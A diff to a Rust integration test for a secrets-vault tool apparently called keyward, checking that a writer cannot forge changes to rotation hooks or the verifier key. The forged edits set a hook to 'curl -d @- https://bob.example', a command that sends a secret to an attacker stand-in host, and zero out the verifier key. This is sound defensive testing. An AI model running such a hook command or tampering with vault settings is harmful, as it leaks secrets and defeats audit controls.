@@ -11,7 +11,9 @@ use keyward::recipient::short_recipient;
 use predicates::prelude::*;
 use predicates::str::contains;
 
-use crate::support::forge::{append_event, reroot, resign, resign_claiming};
+use crate::support::forge::{
+    append_event, reroot, resign, resign_claiming, resign_hiding_settings,
+};
 use crate::support::team::Team;
 use crate::support::{Sandbox, decrypt_file, edit_image, encrypt_image, open_image};
 
@@ -547,4 +549,69 @@ fn an_admin_binding_someone_elses_recipient_to_a_key_of_their_own_is_refused() {
             .code(6)
             .stderr(contains("without a proof"));
     }
+}
+
+#[test]
+fn a_writer_changing_a_hook_or_the_verifier_key_under_another_event_is_refused() {
+    let kw = Sandbox::with_vault();
+    kw.set("IMPORTED", "an-imported-value-0123456789");
+    kw.cmd(["hook", "set", "IMPORTED", "--", "echo rolled"])
+        .assert()
+        .success();
+    let bob_key = kw.write_identity("bob.key");
+    let bob = kw.recipient_of(&bob_key);
+    kw.cmd(["access", "grant", &card_of(&kw, &bob_key)])
+        .assert()
+        .success();
+    let alice = kw.my_recipient();
+    let file = kw.env_file("dev");
+    let image = decrypt_file(&file, &bob_key);
+    let recipients = [alice.as_str(), bob.as_str()];
+    // Bob, a writer, records an ordinary `set` — and with it, a rotation hook of his
+    // choosing (or another verifier key), signed as himself, as his role may not.
+    for forge in [
+        "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
+        "INSERT INTO verifier_key(id, seed, created) VALUES (1, zeroblob(32), 0)",
+    ] {
+        let forged = edit_image(&image, |c| {
+            c.execute(forge, []).unwrap();
+            append_event(c, &bob, Action::Set, Some("IMPORTED"), Some(1));
+            resign(c, &bob_key);
+        });
+        fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+        kw.cmd(["audit", "verify"])
+            .env("XDG_STATE_HOME", kw.path("fresh"))
+            .assert()
+            .code(6)
+            .stderr(contains("may not change rotation hooks, the verifier key"));
+    }
+    // Signed as if the settings were as before: the rows say otherwise.
+    let forged = edit_image(&image, |c| {
+        c.execute(
+            "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
+            [],
+        )
+        .unwrap();
+        append_event(c, &bob, Action::Set, Some("IMPORTED"), Some(1));
+        resign_hiding_settings(c, &bob_key);
+    });
+    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+    kw.cmd(["audit", "verify"])
+        .env("XDG_STATE_HOME", kw.path("fresh-1"))
+        .assert()
+        .code(6)
+        .stderr(contains("changed without a signed event"));
+    // The same edit as the admin Alice is hers to make.
+    let alice_key = kw.identity.clone().unwrap();
+    let forged = edit_image(&image, |c| {
+        c.execute("UPDATE hooks SET command = 'echo again'", [])
+            .unwrap();
+        append_event(c, &alice, Action::Hook, Some("IMPORTED"), None);
+        resign(c, &alice_key);
+    });
+    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+    kw.cmd(["audit", "verify"])
+        .env("XDG_STATE_HOME", kw.path("fresh-2"))
+        .assert()
+        .success();
 }
